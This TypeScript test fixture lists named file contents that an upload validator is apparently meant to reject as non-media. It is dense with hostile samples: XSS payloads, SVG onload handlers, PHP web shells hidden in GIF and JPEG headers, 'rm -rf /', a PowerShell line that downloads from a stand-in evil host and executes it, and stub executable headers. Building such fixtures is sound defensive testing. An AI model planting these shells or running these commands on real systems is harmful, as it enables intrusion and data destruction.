/** Files that must not be stored as a picture, a video, a sound or a PDF. Each is a text of bytes, or bytes. */
const PAGE = '<html><script>alert(document.domain)</script></html>'
const SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
const ENTITIES = '<!DOCTYPE svg [<!ENTITY a "<script>alert(1)</script>">]><svg>&a;</svg>'
const BINARY = '\0\x01\x02\x03\x04'

const utf16le = (text: string): string => Buffer.from(text, 'utf16le').toString('latin1')
const utf16be = (text: string): string => Buffer.from(text, 'utf16le').swap16().toString('latin1')
const spaces = (count: number, text: string): string => ' '.repeat(count) + text

/** A ZIP whose first entry has this name. */
const zip = (name: string): string =>
  `PK\x03\x04\x14\0\0\0\0\0${'\0'.repeat(16)}${String.fromCharCode(name.length)}\0\0\0${name}${BINARY}`

const PDF_TAIL = '\n%PDF-1.4\n1 0 obj'

const HOSTILE: Record<string, string> = {
  'a page': PAGE,
  'a page behind a doctype': `<!DOCTYPE html>${PAGE}`,
  'a page in capitals': PAGE.toUpperCase(),
  'a page behind a line break': `\r\n\t${PAGE}`,
  'a page behind a comment': `<!-- harmless -->${PAGE}`,
  'a page behind an XML declaration': `<?xml version="1.0"?>${PAGE}`,
  'a page behind a byte order mark': `\xef\xbb\xbf${PAGE}`,
  'a page behind 4 KB of spaces': spaces(4096, PAGE),
  'a page behind 60 KB of spaces': spaces(60_000, PAGE),
  'a page behind 64 KB of spaces': spaces(65_536, PAGE),
  'a page behind 50 KB of comments': `${'<!-- x -->'.repeat(5000)}${PAGE}`,
  'a page in UTF-16LE': `\xff\xfe${utf16le(PAGE)}`,
  'a page in UTF-16BE': `\xfe\xff${utf16be(PAGE)}`,
  'a page in UTF-16LE without a mark': utf16le(PAGE),
  'a page in UTF-16BE without a mark': utf16be(PAGE),
  'a page in UTF-16LE behind spaces': `\xff\xfe${utf16le(spaces(20_000, PAGE))}`,
  'a page in UTF-7': '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  'a page with NULs in it': PAGE.split('').join('\0'),
  'a page with binary data behind it': `${PAGE}${BINARY.repeat(900)}`,
  'a script element': '<script src="//evil.example/x.js"></script>',
  'a frame': '<iframe src="javascript:alert(1)">',
  'a link of a style': '<link rel=stylesheet href=//evil.example>',
  'an element of its own': `<x-evil onclick="alert(1)">${BINARY.repeat(99)}`,
  'an MHTML': 'MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="a"\r\n\r\n--a',
  'an SVG': SVG,
  'an SVG with entities': ENTITIES,
  'an SVG with entities behind an XML declaration': `<?xml version="1.0"?>\n${ENTITIES}`,
  'an SVG with a prefix': '<a:svg xmlns:a="http://www.w3.org/2000/svg" onload="alert(1)"/>',
  'an SVG in UTF-16': `\xff\xfe${utf16le(SVG)}`,
  'an XML with a style': '<?xml version="1.0"?><?xml-stylesheet href="x.xsl"?><a/>',
  'an XHTML': '<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"/>',
  'a script of PHP': '<?php system($_GET["c"]); ?>',
  'a short script of PHP': '<?=`$_GET[c]`?>',
  'a script of PHP in a GIF of letters': 'GIF89a<?php system($_GET["c"]); ?>',
  'a script of PHP in a JPEG of letters': '\xff\xd8\xff<?php system($_GET["c"]); ?>',
  'a script in a GIF of letters': 'GIF89a/*<svg/onload=alert(1)>*/=alert(1)//;',
  'a script of JSP': '<%@ page import="java.io.*" %><% Runtime.getRuntime(); %>',
  'a script of a shell': '#!/bin/sh\nrm -rf /',
  'a script of Python': '#!/usr/bin/env python3\nimport os',
  'a script of PowerShell': 'Invoke-WebRequest http://evil.example | iex',
  'a script of Windows': '@echo off\r\ndel /q *.*',
  'a script of JavaScript': 'alert(document.cookie)//',
  'a program of Windows': `MZ\x90\0\x03\0\0\0\x04\0${BINARY.repeat(30)}PE\0\0`,
  'a program of Windows that is a video': `MZ\x90\0ftypisom\0\0\x02\0isomiso2${BINARY}`,
  'a program of Windows that is a QuickTime film': `MZ\x90\0moov${BINARY.repeat(20)}`,
  'a program of Linux': `\x7fELF\x02\x01\x01\0${BINARY.repeat(30)}`,
  'a program of Linux that is a video': `\x7fELFftypmp42\0\0\x02\0${BINARY}`,
  'a program of macOS': `\xcf\xfa\xed\xfe\x07\0\0\x01${BINARY.repeat(30)}`,
  'a program of macOS for two processors': `\xca\xfe\xba\xbe\0\0\0\x02${BINARY.repeat(30)}`,
  'a class of Java': `\xca\xfe\xba\xbe\0\0\0\x34${BINARY.repeat(30)}`,
  'a program of Android': `dex\n035\0${BINARY.repeat(30)}`,
  'an app of Android': zip('AndroidManifest.xml'),
  'an app of iOS': zip('Payload/a.app/Info.plist'),
  'an archive of Java': zip('META-INF/MANIFEST.MF'),
  'a module of WebAssembly': `\0asm\x01\0\0\0${BINARY}`,
  'a document with macros': `\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1${BINARY.repeat(99)}`,
  'an installer of Windows': `\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1${'\0'.repeat(500)}`,
  'a page before a PDF': `${PAGE}${PDF_TAIL}`,
  'a comment and a page before a PDF': `<!-- -->${PDF_TAIL}${PAGE}`,
  'a script of PHP before a PDF': `<?php system($_GET["c"]); ?>${PDF_TAIL}`,
  'a script of a shell before a PDF': `#!/bin/sh\nrm -rf /\n${PDF_TAIL}`,
  'a program before a PDF': `MZ\x90\0\x03\0${BINARY}${PDF_TAIL}`,
  'a program of Linux before a PDF': `\x7fELF\x02\x01\x01\0${BINARY}${PDF_TAIL}`,
  'an app before a PDF': `${zip('classes.dex')}${PDF_TAIL}`,
  'a PDF far behind junk': `${'x'.repeat(1100)}%PDF-1.4`,
  'a page before a video': `<p >ftypisom${BINARY.repeat(9)}`,
  'a page before a film': `<a>\0moov${BINARY.repeat(9)}`,
  'a script before a video': `<?=1ftypmp42${BINARY.repeat(9)}`,
}

export const hostileFiles = Object.entries(HOSTILE).map(
  ([title, text]) => [title, new Uint8Array(Buffer.from(text, 'latin1'))] as const,
)
